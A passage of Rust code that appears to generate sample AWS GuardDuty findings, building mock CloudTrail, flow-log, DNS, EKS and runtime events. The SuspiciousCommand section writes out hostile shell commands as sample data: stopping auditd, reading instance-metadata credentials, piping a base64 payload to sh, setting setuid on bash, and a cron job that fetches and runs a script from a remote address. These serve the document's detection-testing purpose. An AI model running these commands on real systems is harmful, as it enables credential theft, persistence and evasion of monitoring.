            network_connection_action: Some(NetworkConnectionAction {
                blocked: false,
                connection_direction: if outbound { "OUTBOUND" } else { "INBOUND" }.into(),
                local_port_details: local_port.map(port),
                protocol: protocol.into(),
                local_ip_details: Some(LocalIpDetails {
                    ip_address_v4: Some(LOCAL_IP.into()),
                    ip_address_v6: None,
                }),
                local_network_interface: Some(ENI_ID.into()),
                remote_ip_details: Some(remote.details()),
                remote_port_details: remote_port.map(port),
            }),
            ..Default::default()
        }
    }
    fn dns_request(&self, domain: &str) -> Action {
        Action {
            action_type: "DNS_REQUEST".into(),
            dns_request_action: Some(DnsRequestAction {
                domain: domain.into(),
                protocol: Some("UDP".into()),
                blocked: false,
                domain_with_suffix: Some(domain_with_suffix(domain)),
                vpc_owner_account_id: Some(self.ctx.account_id.clone()),
            }),
            ..Default::default()
        }
    }

    // ---- CloudTrail ----

    fn api_call(&self) -> Parts {
        let ty = self.ty();
        let n = &self.name;
        let rule = first_signal(self.info.trigger);
        let (api, service, target) = match rule.and_then(|(r, _)| rule_call(r)) {
            Some(call) => call,
            None => {
                let (api, service) = api_for(n, ty);
                let target = if self.info.resource_type == "S3Bucket" {
                    Target::Bucket
                } else {
                    Target::AccessKey
                };
                (api, service, target)
            }
        };
        let source = Source::of(n.technique);
        let user_agent = pentest_user_agent(n.technique).unwrap_or(CLI_USER_AGENT);
        let mut action = self.remote_api_call(api, service, &source, user_agent);
        let mut key = self.access_key();
        let mut resource = Resource {
            resource_type: "AccessKey".into(),
            ..Default::default()
        };
        let mut affected = BTreeMap::new();
        match target {
            Target::AccessKey => {}
            Target::Bucket => {
                resource.resource_type = "S3Bucket".into();
                resource.s3_bucket_details = Some(vec![self.bucket()]);
                affected.insert("AWS::S3::Bucket".to_string(), BUCKET.to_string());
            }
            Target::Instance => {
                resource.resource_type = "Instance".into();
                resource.instance_details = Some(self.instance());
                affected.insert("AWS::EC2::Instance".to_string(), INSTANCE_ID.to_string());
            }
            Target::Database => {
                resource.resource_type = "RDSDBInstance".into();
                resource.rds_db_instance_details = Some(self.database());
                affected.insert("AWS::RDS::DBInstance".to_string(), DB_INSTANCE.to_string());
            }
            Target::Function => {
                resource.resource_type = "Lambda".into();
                resource.lambda_details = Some(self.function());
                affected.insert("AWS::Lambda::Function".to_string(), FUNCTION.to_string());
            }
            Target::Snapshot => {
                let snap = "snap-99999999";
                resource.ebs_snapshot_details = Some(EbsSnapshotDetails {
                    snapshot_arn: format!(
                        "arn:{}:ec2:{}::snapshot/{snap}",
                        self.ctx.partition, self.ctx.region
                    ),
                });
                affected.insert("AWS::EC2::Snapshot".to_string(), snap.to_string());
            }
            Target::Image => {
                resource.ec2_image_details = Some(Ec2ImageDetails {
                    image_arn: format!(
                        "arn:{}:ec2:{}::image/{IMAGE_ID}",
                        self.ctx.partition, self.ctx.region
                    ),
                });
                affected.insert("AWS::EC2::Image".to_string(), IMAGE_ID.to_string());
            }
        }
        if ty == "Stealth:IAMUser/CloudTrailLoggingDisabled" {
            affected.insert(
                "AWS::CloudTrail::Trail".to_string(),
                self.arn("cloudtrail", "trail/management-events"),
            );
        }
        let call = action.aws_api_call_action.as_mut();
        // Instance-role (and task-role) credentials used elsewhere: the key is a session of the
        // role, and "InsideAWS" means the caller is another AWS account.
        if n.technique.contains("CredentialExfiltration") {
            let workload = if n.technique.starts_with("Instance") {
                INSTANCE_ID.to_string()
            } else {
                hex_of(&["task", ty], 32)
            };
            key.user_type = Some("AssumedRole".into());
            key.principal_id = Some(format!("{PRINCIPAL_ID}:{workload}"));
            if n.technique.ends_with("InsideAWS")
                && let Some(c) = call
            {
                // The caller sits in another AWS account: an address AWS announces.
                if let Some(org) = c
                    .remote_ip_details
                    .as_mut()
                    .and_then(|r| r.organization.as_mut())
                {
                    org.asn = Some("16509".into());
                    org.asn_org = Some("AMAZON-02".into());
                    org.isp = Some("Amazon.com".into());
                    org.org = Some("Amazon.com".into());
                }
                c.caller_type = "Remote account".into();
                c.remote_account_details = Some(RemoteAccountDetails {
                    account_id: OTHER_ACCOUNT.into(),
                    affiliated: false,
                    aws_service_name: None,
                });
            }
        } else if n.technique.contains("RootCredentialUsage") {
            key.user_type = Some("Root".into());
            key.user_name = Some("Root".into());
            key.principal_id = Some(self.ctx.account_id.clone());
        }
        if let Some(c) = action.aws_api_call_action.as_mut() {
            c.affected_resources = affected;
        }
        resource.access_key_details = Some(key);

        let ip = source.remote().ip;
        let user = USER_NAME;
        let origin = if n.technique.ends_with("InsideAWS") {
            format!("from AWS account {OTHER_ACCOUNT}")
        } else {
            source.words(ip)
        };
        let (title, description, severity, rule_name) = match rule {
            Some((rule_name, severity)) => (
                format!("Custom detection rule {rule_name} matched {api} by {user}."),
                format!(
                    "The Custom Detection Rule signal {rule_name} matched a call to {api} ({service}) made by {user} {origin}."
                ),
                Some(severity),
                Some(rule_name.to_string()),
            ),
            None => {
                let title = match source {
                    _ if n.technique.starts_with("InstanceCredentialExfiltration") => format!(
                        "Credentials for the EC2 instance role of {INSTANCE_ID} were used {}.",
                        if n.technique.ends_with("InsideAWS") {
                            format!("from AWS account {OTHER_ACCOUNT}")
                        } else {
                            format!("from external IP address {ip}")
                        }
                    ),
                    _ if n.technique.starts_with("ResourceCredentialExfiltration") => format!(
                        "Credentials for an ECS task role were used {}.",
                        if n.technique.ends_with("InsideAWS") {
                            format!("from AWS account {OTHER_ACCOUNT}")
                        } else {
                            format!("from external IP address {ip}")
                        }
                    ),
                    _ if n.technique == "ConsoleLoginSuccess.B" => {
                        format!("Unusual console logins by {user} from distant locations.")
                    }
                    _ if n.technique.contains("RootCredentialUsage") => {
                        format!("API {api} was invoked using root credentials.")
                    }
                    Source::Plain if n.technique.contains("AnomalousBehavior") => {
                        format!(
                            "Unusual {} API {api} was invoked by {user}.",
                            words(n.tactic)
                        )
                    }
                    Source::Plain if pentest_user_agent(n.technique).is_some() => format!(
                        "API {api} was invoked from a {} computer.",
                        n.technique.trim_end_matches("Linux").to_string() + " Linux"
                    ),
                    Source::Plain => format!("API {api} was invoked by {user}."),
                    _ => format!("API {api} was invoked {}.", source.words(ip)),
                };
                let description = format!(
                    "{} {api} ({service}) was called by {user} {origin}.",
                    sentence(self.info.trigger)
                );
                (title, description, None, None)
            }
        };
        let detection = n
            .technique
            .starts_with("AnomalousBehavior")
            .then(|| anomaly(api, &ISP));
        let feature = if self.info.data_source.contains("S3 data events")
            && !self.info.data_source.contains("management")
        {
            "S3DataEvents"
        } else {
            "CloudTrail"
        };
        Parts {
            resource,
            action,
            role: "TARGET",
            title,
            description,
            evidence: source.evidence(),
            severity,
            feature: Some(feature),
            rule: rule_name,
            detection,
            ..Default::default()
        }
    }

    fn database(&self) -> RdsDbInstanceDetails {
        RdsDbInstanceDetails {
            db_instance_identifier: Some(DB_INSTANCE.into()),
            engine: Some("aurora-postgresql".into()),
            engine_version: Some("15.4".into()),
            db_cluster_identifier: Some("sample-database".into()),
            db_instance_arn: Some(self.arn("rds", &format!("db:{DB_INSTANCE}"))),
            dbi_resource_id: Some(format!(
                "db-{}",
                hex_of(&["dbi", &self.ctx.account_id], 26).to_uppercase()
            )),
            tags: tags(&[("Environment", "production")]),
        }
    }

    fn function(&self) -> LambdaDetails {
        LambdaDetails {
            function_arn: Some(self.arn("lambda", &format!("function:{FUNCTION}"))),
            function_name: Some(FUNCTION.into()),
            description: Some("Processes uploaded images".into()),
            last_modified_at: Some(self.secs_ago(12 * 86_400)),
            revision_id: Some(uuid_of(&["revision", &self.ctx.account_id])),
            function_version: Some("$LATEST".into()),
            role: Some(format!(
                "arn:{}:iam::{}:role/service-role/{FUNCTION}-role",
                self.ctx.partition, self.ctx.account_id
            )),
            vpc_config: Some(VpcConfig {
                subnet_ids: Some(vec![SUBNET_ID.into()]),
                vpc_id: Some(VPC_ID.into()),
            }),
            tags: tags(&[("Environment", "production")]),
        }
    }

    // ---- VPC flow logs ----

    /// (outbound, protocol, local port, remote port, ACTOR?, remote, evidence list/threat).
    fn flow(&self) -> Parts {
        let t = self.name.technique;
        let (outbound, protocol, local, remote_port, actor) = match t {
            "SSHBruteForce" => (false, "TCP", Some(22), Some(49_152), false),
            "RDPBruteForce" => (false, "TCP", Some(3389), Some(51_234), false),
            "WinRMBruteForce" => (false, "TCP", Some(5985), Some(50_312), false),
            "TorRelay" => (false, "TCP", Some(9001), Some(41_877), true),
            "TorClient" => (true, "TCP", Some(45_210), Some(9001), true),
            "Portscan" => (true, "TCP", Some(41_002), Some(3306), true),
            "PortSweep" => (true, "TCP", Some(41_003), Some(445), true),
            "DenialOfService.Tcp" => (true, "TCP", Some(44_001), Some(80), true),
            "DenialOfService.Udp" => (true, "UDP", Some(44_002), Some(80), true),
            "DenialOfService.Dns" => (true, "UDP", Some(44_003), Some(53), true),
            "DenialOfService.UdpOnTcpPorts" => (true, "UDP", Some(44_004), Some(443), true),
            "DenialOfService.UnusualProtocol" => (true, "IGMP", None, None, true),
            "Spambot" => (true, "TCP", Some(47_025), Some(25), true),
            "BitcoinTool.B" => (true, "TCP", Some(48_333), Some(3333), true),
            "NetworkPortUnusual" => (true, "TCP", Some(48_667), Some(6667), true),
            "UnusualDNSResolver" => (true, "UDP", Some(48_053), Some(53), true),
            "UnusualDoHActivity" => (true, "TCP", Some(48_443), Some(443), true),
            "UnusualDoTActivity" => (true, "TCP", Some(48_853), Some(853), true),
            "BlackholeTraffic" => (true, "TCP", Some(48_080), Some(80), true),
            // C&C, drop points, unusual volume, custom threat list: outbound HTTPS.
            _ => (true, "TCP", Some(48_443), Some(443), true),
        };
        let source = Source::of(t);
        let remote = match t {
            "TorRelay" | "TorClient" => TOR_EXIT,
            "C&CActivity.B" | "BlackholeTraffic" | "DropPoint" | "BitcoinTool.B" | "Spambot" => {
                HOSTING
            }
            _ => source.remote(),
        };
        let evidence = match t {
            "C&CActivity.B" => Some(threat_evidence("ProofPoint", "C&C server")),
            "BitcoinTool.B" => Some(threat_evidence("Amazon", "CryptoCurrency")),
            "BlackholeTraffic" => Some(threat_evidence("Amazon", "BlackHole")),
            "DropPoint" => Some(threat_evidence("Amazon", "DropPoint")),
            "TorRelay" | "TorClient" => Some(threat_evidence("TorNodes", "TorNode")),
            _ => source.evidence(),
        };
        let who = INSTANCE_ID;
        let ip = remote.ip;
        let title = match t {
            _ if t.starts_with("DenialOfService") => format!(
                "EC2 instance {who} is behaving in a manner that may indicate it is being used to perform a Denial of Service attack over {protocol} against {ip}."
            ),
            _ if t.ends_with("BruteForce") => format!(
                "{ip} is performing {} brute force attacks against {who}.",
                t.trim_end_matches("BruteForce")
            ),
            "TorRelay" => format!("EC2 instance {who} is acting as a Tor relay for {ip}."),
            "TorClient" => format!("EC2 instance {who} is communicating with Tor entry node {ip}."),
            "C&CActivity.B" => format!(
                "EC2 instance {who} is communicating with a known command and control server {ip}."
            ),
            "BitcoinTool.B" => {
                format!("EC2 instance {who} is communicating with Bitcoin-related IP address {ip}.")
            }
            "Spambot" => format!(
                "EC2 instance {who} is sending email to {ip} on port 25 without a history of doing so."
            ),
            "Portscan" => format!(
                "EC2 instance {who} is performing outbound port scans against remote host {ip}."
            ),
            "PortSweep" => format!(
                "EC2 instance {who} is probing port 445 on a large number of hosts, including {ip}."
            ),
            "NetworkPortUnusual" => {
                format!("EC2 instance {who} is communicating with {ip} on an unusual port 6667.")
            }
            "TrafficVolumeUnusual" => format!(
                "EC2 instance {who} is sending an unusually large amount of traffic to {ip}."
            ),
            "BlackholeTraffic" => format!(
                "EC2 instance {who} is attempting to communicate with black hole IP address {ip}."
            ),
            "DropPoint" => format!(
                "EC2 instance {who} is communicating with {ip}, a known drop point for stolen data."
            ),
            "MaliciousIPCaller.Custom" => format!(
                "EC2 instance {who} is communicating with {ip}, an address on a custom threat list."
            ),
            "UnusualDNSResolver" => {
                format!("EC2 instance {who} is sending DNS queries to an unusual resolver {ip}.")
            }
            "UnusualDoHActivity" => {
                format!("EC2 instance {who} is making unusual DNS-over-HTTPS connections to {ip}.")
            }
            "UnusualDoTActivity" => {
                format!("EC2 instance {who} is making unusual DNS-over-TLS connections to {ip}.")
            }
            _ => format!(
                "EC2 instance {who} shows {} activity towards {ip}.",
                words(t)
            ),
        };
        let description = format!(
            "{} {} connection {} {ip}{} over {protocol}.",
            sentence(self.info.trigger),
            if outbound { "Outbound" } else { "Inbound" },
            if outbound { "to" } else { "from" },
            remote_port
                .filter(|_| outbound)
                .map(|p| format!(" port {p}"))
                .unwrap_or_default(),
        );
        Parts {
            resource: Resource {
                resource_type: "Instance".into(),
                instance_details: Some(self.instance()),
                ..Default::default()
            },
            action: self.connection(outbound, protocol, local, remote_port, remote),
            role: if actor { "ACTOR" } else { "TARGET" },
            title,
            description,
            evidence,
            feature: Some("FlowLogs"),
            ..Default::default()
        }
    }

    fn port_probe(&self) -> Parts {
        // The label's default (Low) case: a port other than Elasticsearch's; EMR's resource
        // manager port for the EMR type.
        let local = if self.name.technique.contains("EMR") {
            8088
        } else {
            22
        };
        let probe = |remote: Remote| PortProbeDetail {
            local_port_details: Some(port(local)),
            local_ip_details: Some(LocalIpDetails {
                ip_address_v4: Some(LOCAL_IP.into()),
                ip_address_v6: None,
            }),
            remote_ip_details: Some(remote.details()),
        };
        Parts {
            resource: Resource {
                resource_type: "Instance".into(),
                instance_details: Some(self.instance()),
                ..Default::default()
            },
            action: Action {
                action_type: "PORT_PROBE".into(),
                port_probe_action: Some(PortProbeAction {
                    blocked: false,
                    port_probe_details: vec![probe(HOSTING), probe(TOR_EXIT)],
                }),
                ..Default::default()
            },
            role: "TARGET",
            title: format!("Unprotected port on EC2 instance {INSTANCE_ID} is being probed."),
            description: format!(
                "{} Port {local} of {INSTANCE_ID} was probed by known scanners {} and {}.",
                sentence(self.info.trigger),
                HOSTING.ip,
                TOR_EXIT.ip
            ),
            evidence: Some(threat_evidence("ProofPoint", "Scanner")),
            feature: Some("FlowLogs"),
            ..Default::default()
        }
    }

    // ---- DNS ----

    /// The domain a DNS type's sample queries.
    fn domain(&self) -> &'static str {
        if let Some(d) = tester_domain(self.ty()) {
            return d;
        }
        match self.name.technique {
            "DGADomainRequest.B" | "DGADomainRequest.C!DNS" => "xkqvbwmzjrtp.example",
            "DNSDataExfiltration" => "MZXW6YTBOI2DKNZYHEZTMOBRGE3TA.exfil.example.net",
            "MetadataDNSRebind" => "169.254.169.254.rebind.example.net",
            "MaliciousDomainRequest.Custom" => "malware-delivery.example.org",
            _ => "suspicious.example.com",
        }
    }

    fn dns(&self) -> Parts {
        let domain = self.domain();
        let evidence = if self.name.technique.ends_with(".Custom") {
            Some(threat_evidence(
                "sample-customer-threat-list",
                "CustomThreatListEntry",
            ))
        } else if tester_domain(self.ty()).is_some() {
            Some(threat_evidence(
                "Amazon",
                self.name.technique.trim_end_matches("!DNS"),
            ))
        } else {
            None
        };
        Parts {
            resource: Resource {
                resource_type: "Instance".into(),
                instance_details: Some(self.instance()),
                ..Default::default()
            },
            action: self.dns_request(domain),
            role: "ACTOR",
            title: format!("EC2 instance {INSTANCE_ID} queried {domain}."),
            description: format!(
                "{} EC2 instance {INSTANCE_ID} queried the domain {domain}.",
                sentence(self.info.trigger)
            ),
            evidence,
            feature: Some("DnsLogs"),
            ..Default::default()
        }
    }

    // ---- EKS audit logs ----

    fn kubernetes(&self) -> Parts {
        let t = self.name.technique;
        let anonymous = t.contains("SuccessfulAnonymousAccess");
        let source = Source::of(t);
        let remote = source.remote();
        // (verb, resource, subresource, namespace, name, request URI)
        let (verb, res, sub, ns, res_name): (&str, &str, Option<&str>, &str, Option<&str>) = match t
        {
            "ExecInKubeSystemPod" => (
                "create",
                "pods",
                Some("exec"),
                "kube-system",
                Some("coredns-5d8d8b4c6b-2xkqz"),
            ),
            "AnomalousBehavior.ExecInPod" => (
                "create",
                "pods",
                Some("exec"),
                "default",
                Some("sample-web-7d9f8c6b5-x2lzq"),
            ),
            "AnomalousBehavior.SecretsAccessed" => {
                ("get", "secrets", None, "default", Some("db-credentials"))
            }
            "AnomalousBehavior.PermissionChecked" => {
                ("create", "selfsubjectaccessreviews", None, "", None)
            }
            "AnomalousBehavior.RoleCreated" => (
                "create",
                "clusterroles",
                None,
                "",
                Some("sample-permissive-role"),
            ),
            "AnomalousBehavior.RoleBindingCreated" => (
                "create",
                "rolebindings",
                None,
                "default",
                Some("sample-edit-binding"),
            ),
            "AdminAccessToDefaultServiceAccount" => (
                "create",
                "clusterrolebindings",
                None,
                "",
                Some("default-sa-admin"),
            ),
            "AnonymousAccessGranted" => (
                "create",
                "clusterrolebindings",
                None,
                "",
                Some("anonymous-view"),
            ),
            "ExposedDashboard" => (
                "create",
                "services",
                None,
                "kubernetes-dashboard",
                Some("kubernetes-dashboard"),
            ),
            "KubeflowDashboardExposed" => (
                "create",
                "services",
                None,
                "kubeflow",
                Some("istio-ingressgateway"),
            ),
            _ if t.contains("WorkloadDeployed") => {
                ("create", "pods", None, "default", Some("sample-workload"))
            }
            _ => match self.name.tactic {
                "CredentialAccess" => ("list", "secrets", None, "default", None),
                "DefenseEvasion" => ("delete", "events", None, "default", None),
                "Discovery" => ("list", "pods", None, "", None),
                "Impact" => ("delete", "deployments", None, "default", Some("sample-web")),
                _ => ("create", "cronjobs", None, "default", Some("sample-cron")),
            },
        };
        let group = match res {
            "clusterroles" | "rolebindings" | "clusterrolebindings" => {
                "/apis/rbac.authorization.k8s.io/v1"
            }
            "selfsubjectaccessreviews" => "/apis/authorization.k8s.io/v1",
            "deployments" => "/apis/apps/v1",
            "cronjobs" => "/apis/batch/v1",
            _ => "/api/v1",
        };
        let mut uri = group.to_string();
        if !ns.is_empty() {
            uri.push_str(&format!("/namespaces/{ns}"));
        }
        uri.push_str(&format!("/{res}"));
        if let (Some(name), true) = (res_name, verb != "create" || sub.is_some()) {
            uri.push_str(&format!("/{name}"));
        }
        if let Some(sub) = sub {
            uri.push_str(&format!(
                "/{sub}?command=sh&container=main&stdin=true&stdout=true&tty=true"
            ));
        }
        let user = if anonymous {
            KubernetesUserDetails {
                username: Some("system:anonymous".into()),
                uid: None,
                groups: Some(vec!["system:unauthenticated".into()]),
                ..Default::default()
            }
        } else {
            KubernetesUserDetails {
                username: Some(USER_NAME.into()),
                uid: Some(format!(
                    "aws-iam-authenticator:{}:{PRINCIPAL_ID}",
                    self.ctx.account_id
                )),
                groups: Some(vec!["system:authenticated".into()]),
                session_name: Some(vec!["GeneratedFindingSessionName".into()]),
                impersonated_user: None,
            }
        };
        let workload = t.contains("WorkloadDeployed").then(|| {
            let mut c = self.container(
                "sample-container",
                "public.ecr.aws/docker/library/ubuntu:22.04",
            );
            let mut w = self.pod("sample-workload", "default", c.clone());
            if t.contains("PrivilegedContainer") {
                c.security_context = Some(SecurityContext {
                    privileged: Some(true),
                    allow_privilege_escalation: Some(true),
                });
            }
            if t.contains("SensitiveMount") {
                c.volume_mounts = Some(vec![VolumeMount {
                    name: Some("host-root".into()),
                    mount_path: Some("/host".into()),
                }]);
                w.volumes = Some(vec![Volume {
                    name: Some("host-root".into()),
                    host_path: Some(HostPath {
                        path: Some("/".into()),
                    }),
                }]);
            }
            w.containers = Some(vec![c]);
            w
        });
        let mut action = Action {
            action_type: "KUBERNETES_API_CALL".into(),
            kubernetes_api_call_action: Some(KubernetesApiCallAction {
                request_uri: Some(uri.clone()),
                verb: Some(verb.into()),
                resource: Some(res.into()),
                subresource: sub.map(str::to_string),
                namespace: (!ns.is_empty()).then(|| ns.to_string()),
                resource_name: res_name.map(str::to_string),
                source_ips: Some(vec![remote.ip.into()]),
                user_agent: Some(KUBECTL_USER_AGENT.into()),
                remote_ip_details: Some(remote.details()),
                status_code: Some(if verb == "create" { 201 } else { 200 }),
                parameters: None,
            }),
            ..Default::default()
        };
        match t {
            "AnomalousBehavior.PermissionChecked" => {
                action.kubernetes_permission_checked_details =
                    Some(KubernetesPermissionCheckedDetails {
                        verb: Some("get".into()),
                        resource: Some("secrets".into()),
                        namespace: Some("kube-system".into()),
                        allowed: Some(true),
                    });
            }
            "AnomalousBehavior.RoleCreated" => {
                action.kubernetes_role_details = Some(KubernetesRoleDetails {
                    kind: Some("ClusterRole".into()),
                    name: res_name.map(str::to_string),
                    uid: Some(uuid_of(&["role", self.ty()])),
                });
            }
            "AnomalousBehavior.RoleBindingCreated"
            | "AdminAccessToDefaultServiceAccount"
            | "AnonymousAccessGranted" => {
                // The Medium (default) case of RoleBindingCreated binds a permissive, non-admin role.
                let role = match t {
                    "AdminAccessToDefaultServiceAccount" => "cluster-admin",
                    "AnonymousAccessGranted" => "view",
                    _ => "edit",
                };
                action.kubernetes_role_binding_details = Some(KubernetesRoleBindingDetails {
                    kind: Some(
                        if ns.is_empty() {
                            "ClusterRoleBinding"
                        } else {
                            "RoleBinding"
                        }
                        .into(),
                    ),
                    name: res_name.map(str::to_string),
                    uid: Some(uuid_of(&["binding", self.ty()])),
                    role_ref_name: Some(role.into()),
                    role_ref_kind: Some("ClusterRole".into()),
                });
            }
            _ => {}
        }
        let who = user.username.clone().unwrap_or_default();
        Parts {
            resource: Resource {
                resource_type: "EKSCluster".into(),
                eks_cluster_details: Some(self.eks_cluster()),
                kubernetes_details: Some(KubernetesDetails {
                    kubernetes_user_details: Some(user),
                    kubernetes_workload_details: workload,
                }),
                ..Default::default()
            },
            action,
            role: "TARGET",
            title: format!(
                "Kubernetes API {verb} {res} was invoked on EKS cluster {EKS_CLUSTER} by {who}."
            ),
            description: format!(
                "{} {who} called {verb} on {uri} {}.",
                sentence(self.info.trigger),
                source.words(remote.ip)
            ),
            evidence: source.evidence(),
            detection: t
                .starts_with("AnomalousBehavior")
                .then(|| anomaly(verb, &remote)),
            feature: Some("EksAuditLogs"),
            ..Default::default()
        }
    }

    // ---- Runtime Monitoring ----

    fn workload(&self) -> Workload {
        // Kernel modules are an EC2 (host) finding.
        if self.name.technique == "KernelModuleLoaded" {
            return Workload::Instance;
        }
        match digest(&[self.ty()])[0] % 3 {
            0 => Workload::Instance,
            1 => Workload::Eks,
            _ => Workload::Ecs,
        }
    }

    fn runtime_resource(&self, workload: Workload) -> Resource {
        let container = self.container("sample-web", "public.ecr.aws/nginx/nginx:1.25");
        match workload {
            Workload::Instance => Resource {
                resource_type: "Instance".into(),
                instance_details: Some(self.instance()),
                ..Default::default()
            },
            Workload::Eks => Resource {
                resource_type: "EKSCluster".into(),
                eks_cluster_details: Some(self.eks_cluster()),
                kubernetes_details: Some(KubernetesDetails {
                    kubernetes_user_details: None,
                    kubernetes_workload_details: Some(self.pod(
                        "sample-web-7d9f8c6b5-x2lzq",
                        "default",
                        container.clone(),
                    )),
                }),
                container_details: Some(container),
                ..Default::default()
            },
            Workload::Ecs => Resource {
                resource_type: "ECSCluster".into(),
                ecs_cluster_details: Some(self.ecs_cluster(container.clone())),
                container_details: Some(container),
                ..Default::default()
            },
        }
    }

    fn process(&self, name: &str, path: &str, pid: i64) -> ProcessDetails {
        let shell_uuid = uuid_of(&["shell", self.ty()]);
        ProcessDetails {
            name: Some(name.into()),
            executable_path: Some(path.into()),
            executable_sha256: Some(hex_of(&["exe", path], 64)),
            namespace_pid: Some(pid - 4000),
            pwd: Some("/tmp".into()),
            pid: Some(pid),
            start_time: Some(self.secs_ago(30)),
            uuid: Some(uuid_of(&["process", self.ty()])),
            parent_uuid: Some(shell_uuid.clone()),
            user: Some("root".into()),
            user_id: Some(0),
            euid: Some(0),
            lineage: Some(vec![
                LineageObject {
                    start_time: Some(self.secs_ago(95)),
                    namespace_pid: Some(pid - 4001),
                    user_id: Some(0),
                    name: Some("bash".into()),
                    pid: Some(pid - 1),
                    uuid: Some(shell_uuid),
                    executable_path: Some("/usr/bin/bash".into()),
                    euid: Some(0),
                    parent_uuid: Some(uuid_of(&["parent", self.ty()])),
                },
                LineageObject {
                    start_time: Some(self.secs_ago(3 * 3600)),
                    namespace_pid: Some(1),
                    user_id: Some(0),
                    name: Some("nginx".into()),
                    pid: Some(pid - 2300),
                    uuid: Some(uuid_of(&["parent", self.ty()])),
                    executable_path: Some("/usr/sbin/nginx".into()),
                    euid: Some(0),
                    parent_uuid: None,
                },
            ]),
        }
    }

    fn runtime(&self) -> Parts {
        let t = self.name.technique;
        let tactic = self.name.tactic;
        let workload = self.workload();
        let where_ = match workload {
            Workload::Instance => format!("EC2 instance {INSTANCE_ID}"),
            Workload::Eks => format!("a container in EKS cluster {EKS_CLUSTER}"),
            Workload::Ecs => format!("a task in ECS cluster {ECS_CLUSTER}"),
        };
        let mut action = Action::default();
        let mut evidence = None;
        let mut severity = None;
        let mut context = RuntimeContext::default();
        let mut process = self.process("curl", "/usr/bin/curl", 4242);
        let network = |remote: Remote, port: i64| {
            self.connection(true, "TCP", Some(48_500), Some(port), remote)
        };
        if t.ends_with("!DNS") || t.contains("DomainRequest") || t == "MetadataDNSRebind" {
            let domain = tester_domain(self.ty()).unwrap_or(match t {
                "MetadataDNSRebind" => "169.254.169.254.rebind.example.net",
                _ => "suspicious.example.com",
            });
            action = self.dns_request(domain);
            if tester_domain(self.ty()).is_some() {
                evidence = Some(threat_evidence("Amazon", t.trim_end_matches("!DNS")));
            }
        } else {
            match t {
                "C&CActivity.B" => {
                    action = network(HOSTING, 443);
                    evidence = Some(threat_evidence("ProofPoint", "C&C server"));
                }
                "BitcoinTool.B" => {
                    process = self.process("xmrig", "/tmp/.x/xmrig", 4242);
                    action = network(HOSTING, 3333);
                    evidence = Some(threat_evidence("Amazon", "CryptoCurrency"));
                }
                "BlackholeTraffic" => {
                    action = network(HOSTING, 80);
                    evidence = Some(threat_evidence("Amazon", "BlackHole"));
                }
                "DropPoint" => {
                    action = network(HOSTING, 443);
                    evidence = Some(threat_evidence("Amazon", "DropPoint"));
                }
                "TorClient" => {
                    process = self.process("tor", "/usr/bin/tor", 4242);
                    action = network(TOR_EXIT, 9001);
                }
                "TorRelay" => {
                    process = self.process("tor", "/usr/bin/tor", 4242);
                    action = self.connection(false, "TCP", Some(9001), Some(41_877), TOR_EXIT);
                }
                "ReverseShell" => {
                    process = self.process("bash", "/usr/bin/bash", 4242);
                    action = network(HOSTING, 4444);
                    context.address_family = Some("AF_INET".into());
                    context.iana_protocol_number = Some(6);
                }
                "CryptoMinerExecuted" => {
                    process = self.process("xmrig", "/tmp/.x/xmrig", 4242);
                }
                "MaliciousFileExecuted" | "MaliciousFileExecuted.Custom" => {
                    process = self.process("kinsing", "/tmp/kinsing", 4242);
                    context.threat_file_path = Some("/tmp/kinsing".into());
                    let hash = hex_of(&["malware", self.ty()], 64);
                    process.executable_sha256 = Some(hash.clone());
                    let list = if t.ends_with(".Custom") {
                        "sample-customer-threat-list"
                    } else {
                        "Amazon"
                    };
                    evidence = Some(Evidence {
                        threat_intelligence_details: vec![ThreatIntelligenceDetail {
                            threat_list_name: list.into(),
                            threat_names: vec!["Trojan.Linux.Kinsing".into()],
                            threat_file_sha256: Some(hash),
                        }],
                    });
                    // The custom variant's default is not documented; a match on the
                    // customer's own malware list is treated like the built-in one (High).
                    severity = Some(8.0);
                }
                "NewBinaryExecuted" => {
                    process = self.process("payload", "/usr/local/bin/payload", 4242);
                    context.modifying_process = Some(self.process("curl", "/usr/bin/curl", 4100));
                    context.modified_at = Some(self.secs_ago(60));
                }
                "NewLibraryLoaded" => {
                    process = self.process("nginx", "/usr/sbin/nginx", 4242);
                    context.library_path = Some("/usr/lib/x86_64-linux-gnu/libhook.so".into());
                    context.modifying_process = Some(self.process("cp", "/usr/bin/cp", 4100));
                    context.modified_at = Some(self.secs_ago(60));
                }
                "SuspiciousShellCreated" => {
                    process = self.process("sh", "/usr/bin/sh", 4242);
                }
                "FilelessExecution" => {
                    process = self.process("memfd:payload", "/memfd:payload (deleted)", 4242);
                }
                "KernelModuleLoaded" => {
                    process = self.process("insmod", "/usr/sbin/insmod", 4242);
                    context.module_name = Some("diamorphine".into());
                    context.module_file_path = Some("/tmp/diamorphine.ko".into());
                    context.module_sha256 = Some(hex_of(&["module", self.ty()], 64));
                }
                "ProcessInjection.Proc"
                | "ProcessInjection.Ptrace"
                | "ProcessInjection.VirtualMemoryWrite"
                | "PtraceAntiDebugging" => {
                    process = self.process("injector", "/tmp/injector", 4242);
                    context.target_process = Some(if t == "PtraceAntiDebugging" {
                        self.process("injector", "/tmp/injector", 4242)
                    } else {
                        self.process("sshd", "/usr/sbin/sshd", 812)
                    });
                    if t == "ProcessInjection.VirtualMemoryWrite" {
                        context.memory_regions =
                            Some(vec!["7f3a2c000000-7f3a2c021000 rw-p".into()]);
                    }
                }
                "SensitiveFileModified" => {
                    let path = match tactic {
                        "DefenseEvasion" => "/var/log/auth.log",
                        "PrivilegeEscalation" => "/etc/sudoers",
                        _ => "/root/.ssh/authorized_keys",
                    };
                    process = self.process("sh", "/usr/bin/sh", 4242);
                    context.file_path = Some(path.into());
                    context.file_operation = Some("WRITE".into());
                    context.modifying_process = Some(process.clone());
                    context.modified_at = Some(self.secs_ago(20));
                }
                "SuspiciousCommand" => {
                    let command = match tactic {
                        "DefenseEvasion" => "iptables -F && systemctl stop auditd",
                        "Discovery" => {
                            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"
                        }
                        "Execution" => {
                            "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94Lmh | base64 -d | sh"
                        }
                        "PrivilegeEscalation" => "chmod u+s /bin/bash",
                        _ => {
                            "(crontab -l; echo '*/5 * * * * curl -s http://198.51.100.23/x | sh') | crontab -"
                        }
                    };
                    process = self.process("sh", "/usr/bin/sh", 4242);
                    context.command_line_example = Some(command.into());
                    // The 2-8 "Variable" types take the middle of their range.
                    if self.info.severity_label.starts_with("Variable") {
                        severity = Some(5.0);
                    }
                }
                "SuspiciousTool" => {
